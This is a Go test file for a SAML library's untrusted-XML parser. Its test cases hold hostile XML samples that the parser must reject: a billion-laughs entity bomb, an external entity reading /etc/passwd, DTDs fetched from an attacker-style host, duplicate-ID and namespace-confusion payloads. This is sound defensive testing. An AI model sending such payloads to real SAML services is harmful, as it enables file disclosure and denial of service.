package saml

import (
	"bytes"
	"slices"
	"strings"
	"testing"
)

// normalResponse is an unsigned Response of the shape an IdP sends, with the prefixes and the
// XML declaration real IdPs use.
const normalResponse = `<?xml version="1.0" encoding="UTF-8"?>
<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_r1" Version="2.0" IssueInstant="2026-01-01T00:00:00Z" Destination="https://sp.example.no/saml/acs" InResponseTo="_req">
  <!-- a comment is fine -->
  <saml:Issuer>https://idp.example.no</saml:Issuer>
  <samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>
  <saml:Assertion ID="_a1" Version="2.0" IssueInstant="2026-01-01T00:00:00Z">
    <saml:Issuer>https://idp.example.no</saml:Issuer>
    <saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:transient">abc&amp;def</saml:NameID></saml:Subject>
    <saml:AttributeStatement><saml:Attribute Name="Culture"><saml:AttributeValue><![CDATA[nb]]></saml:AttributeValue></saml:Attribute></saml:AttributeStatement>
  </saml:Assertion>
</samlp:Response>
`

func nested(depth int) string {
	return strings.Repeat("<a>", depth) + strings.Repeat("</a>", depth)
}

func many(n int) string {
	return "<r>" + strings.Repeat("<e/>", n-1) + "</r>"
}

type xmlCase struct {
	name string
	in   string
	want Reason // "" = accepted
}

var xmlSafeCases = []xmlCase{
	{"ok/response", normalResponse, ""},
	{"ok/no-declaration", `<r/>`, ""},
	{"ok/depth-at-limit", nested(32), ""},
	{"ok/elements-at-limit", many(500), ""},
	{"ok/whitespace-around-root", "\n  <r/>\n\n", ""},
	{"ok/comment-mentioning-doctype", `<r><!-- <!DOCTYPE r> --></r>`, ""},
	{"fail/empty-cdata", `<r><![CDATA[]]></r>`, ReasonMalformed},
	{"fail/empty-cdata-between-text", `<r>a<![CDATA[]]>b</r>`, ReasonMalformed},
	{"ok/cdata-mentioning-entity", `<r><![CDATA[<!ENTITY x "y">]]></r>`, ""},

	{"fail/billion-laughs", `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>`, ReasonDoctype},
	{"fail/external-entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`, ReasonDoctype},
	{"fail/parameter-entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><r/>`, ReasonDoctype},
	{"fail/external-dtd", `<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>`, ReasonDoctype},
	{"fail/doctype-in-saml", strings.Replace(normalResponse, "<samlp:Response", `<!DOCTYPE samlp:Response [<!ENTITY e "x">]><samlp:Response`, 1), ReasonDoctype},
	{"fail/doctype-after-root", `<r/><!DOCTYPE r>`, ReasonDoctype},
	{"fail/undeclared-entity", `<r>&xxe;</r>`, ReasonMalformed},
	{"fail/processing-instruction", `<?xml-stylesheet href="x.xsl"?><r/>`, ReasonMalformed},
	{"fail/processing-instruction-inside", `<r><?php echo 1; ?></r>`, ReasonMalformed},
	{"fail/second-xml-declaration", `<r><?xml version="1.0"?></r>`, ReasonMalformed},
	{"fail/duplicate-attribute", `<r a="1" a="2"/>`, ReasonMalformed},
	{"fail/duplicate-id-attribute", `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_good" ID="_evil"/>`, ReasonMalformed},
	{"fail/duplicate-prefixed-attribute", `<r xmlns:p="u" p:a="1" p:a="2"/>`, ReasonMalformed},
	{"fail/duplicate-namespace-declaration", `<r xmlns:p="u" xmlns:p="v"/>`, ReasonMalformed},
	{"fail/too-many-elements", many(501), ReasonTooLarge},
	{"fail/too-deep", nested(33), ReasonTooLarge},
	{"fail/too-large", "<r>" + strings.Repeat("x", 256<<10) + "</r>", ReasonTooLarge},
	{"fail/two-roots", `<a/><b/>`, ReasonMalformed},
	{"fail/two-saml-roots", normalResponse + normalResponse[strings.Index(normalResponse, "<samlp:Response"):], ReasonMalformed},
	{"fail/text-after-root", `<r/>junk`, ReasonMalformed},
	{"fail/text-before-root", `junk<r/>`, ReasonMalformed},
	{"fail/empty", ``, ReasonMalformed},
	{"fail/only-comment", `<!-- nothing -->`, ReasonMalformed},
	{"fail/unclosed", `<r><a></r>`, ReasonMalformed},
	{"fail/truncated", normalResponse[:200], ReasonMalformed},
	{"fail/invalid-utf8", "<r>\xff\xfe</r>", ReasonMalformed},
	// Round-trip-unstable constructs of Go's encoding/xml (CVE-2020-29509/29511) from
	// mattermost/xml-roundtrip-validator's own tests that current Go still refuses to tokenize.
	{"fail/colon-in-element-name", `<x::Root/>`, ReasonMalformed},
	{"fail/colon-in-nested-element-name", `<Root><x::Element></::Element></Root>`, ReasonMalformed},
	{"fail/colon-in-attribute-name", `<Root><Element ::attr="foo"></Element></Root>`, ReasonMalformed},
	{"fail/colon-in-end-tag", `<Root></x::Element></Root>`, ReasonMalformed},
	{"fail/saml-colon-element", `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><saml::Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/></samlp:Response>`, ReasonMalformed},
}

// xmlNamespaceCases are not namespace-well-formed (Namespaces in XML 1.0 §3 and §6.3) yet pass
// the strict tokenizer. mattermost/xml-roundtrip-validator's own tests expect the empty-name
// cases to be refused, but since Go's encoding/xml began to read "x:" as a plain local name they
// round-trip unchanged and the validator lets them through (its test suite fails on Go 1.26).
// libxml2, and so xmlsec1 and every other peer, refuses all of them: accepting them leaves a
// parser differential, the root of the namespace-confusion family.
var xmlNamespaceCases = []xmlCase{
	{"fail/duplicate-attribute-two-prefixes-one-namespace", `<r xmlns:p="u" xmlns:q="u" p:a="1" q:a="2"/>`, ReasonMalformed},
	{"fail/empty-attribute-name", `<Root :="value"/>`, ReasonMalformed},
	{"fail/empty-attribute-local-name", `<Root x:="value"/>`, ReasonMalformed},
	{"fail/empty-xmlns-local-name", `<Root xmlns="x" xmlns:="y"></Root>`, ReasonMalformed},
	{"fail/empty-element-local-name", `<x:></x:>`, ReasonMalformed},
	{"fail/unbound-element-prefix", `<saml:Assertion ID="_a"/>`, ReasonMalformed},
	{"fail/unbound-attribute-prefix", `<r p:ID="_a"/>`, ReasonMalformed},
	{"fail/xmlns-prefix-undeclared-empty", `<r xmlns:p=""/>`, ReasonMalformed},
	{"fail/element-local-name-starts-with-dash", `<p:-a xmlns:p="u"/>`, ReasonMalformed},
	{"fail/uppercase-hex-reference", `<r>&#X41;</r>`, ReasonMalformed},
	{"fail/saml-prefix-empty-local", `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><saml: xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/></samlp:Response>`, ReasonMalformed},
}

func TestParseUntrusted(t *testing.T) {
	runXMLCases(t, xmlSafeCases)
}

func TestParseUntrustedNamespaceWellFormed(t *testing.T) {
	runXMLCases(t, xmlNamespaceCases)
}

func runXMLCases(t *testing.T, cases []xmlCase) {
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			doc, err := ParseUntrusted([]byte(tc.in), DefaultLimits())
			if tc.want == "" {
				if err != nil {
					t.Fatalf("rejected: %v", err)
				}
				if doc == nil || doc.Root() == nil {
					t.Fatal("no document")
				}
				return
			}
			if err == nil {
				t.Fatalf("accepted %q", tc.in)
			}
			wantReason(t, err, tc.want)
		})
	}
}

func TestParseUntrustedReadsWholeDocument(t *testing.T) {
	doc, err := ParseUntrusted([]byte(normalResponse), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	nid := doc.FindElement("//NameID")
	if nid == nil || nid.Text() != "abc&def" {
		t.Fatalf("NameID %v", nid)
	}
	if av := doc.FindElement("//AttributeValue"); av == nil || text(av) != "nb" {
		t.Fatalf("CDATA AttributeValue not read")
	}
}

func TestParseUntrustedLimits(t *testing.T) {
	lim := Limits{MaxBytes: 100, MaxElements: 3, MaxDepth: 2}
	for _, tc := range []xmlCase{
		{"ok/at-limits", `<r><a/><b/></r>`, ""},
		{"fail/bytes", `<r>` + strings.Repeat(" ", 100) + `</r>`, ReasonTooLarge},
		{"fail/elements", `<r><a/><b/><c/></r>`, ReasonTooLarge},
		{"fail/depth", `<r><a><b/></a></r>`, ReasonTooLarge},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ParseUntrusted([]byte(tc.in), lim)
			if tc.want == "" {
				if err != nil {
					t.Fatal(err)
				}
				return
			}
			wantReason(t, err, tc.want)
		})
	}
	t.Run("ok/zero-means-unlimited", func(t *testing.T) {
		if _, err := ParseUntrusted([]byte(nested(100)), Limits{}); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("ok/metadata-limits", func(t *testing.T) {
		if _, err := ParseUntrusted([]byte(many(5000)), MetadataLimits()); err != nil {
			t.Fatal(err)
		}
	})
}

var knownReasons = map[Reason]bool{ReasonMalformed: true, ReasonTooLarge: true, ReasonDoctype: true}

// FuzzParseUntrusted: whatever the input, no panic escapes, a rejection carries one of the
// parser's reasons, and an accepted document has exactly one root and no DTD.
func FuzzParseUntrusted(f *testing.F) {
	for _, tc := range append(slices.Clone(xmlSafeCases), xmlNamespaceCases...) {
		if len(tc.in) < 4096 {
			f.Add([]byte(tc.in))
		}
	}
	lim := Limits{MaxBytes: 64 << 10, MaxElements: 200, MaxDepth: 16}
	f.Fuzz(func(t *testing.T, data []byte) {
		doc, err := ParseUntrusted(data, lim)
		if err != nil {
			if r := ReasonOf(err); !knownReasons[r] {
				t.Fatalf("reason %q (%v)", r, err)
			}
			return
		}
		if doc == nil || doc.Root() == nil {
			t.Fatal("accepted without a root")
		}
		if bytes.Contains(data, []byte("<!DOCTYPE")) && !bytes.Contains(data, []byte("<!--")) && !bytes.Contains(data, []byte("<![CDATA[")) {
			t.Fatalf("accepted a DOCTYPE: %q", data)
		}
		if len(data) > lim.MaxBytes {
			t.Fatalf("accepted %d bytes", len(data))
		}
		// What etree read must serialize and parse again to the same root.
		out, err := doc.WriteToBytes()
		if err != nil {
			t.Fatal(err)
		}
		again, err := ParseUntrusted(out, Limits{})
		if err != nil {
			t.Fatalf("re-serialized document rejected: %v\nin:  %q\nout: %q", err, data, out)
		}
		if again.Root().Tag != doc.Root().Tag || again.Root().Space != doc.Root().Space {
			t.Fatalf("root changed in a round trip: %q -> %q", data, out)
		}
	})
}
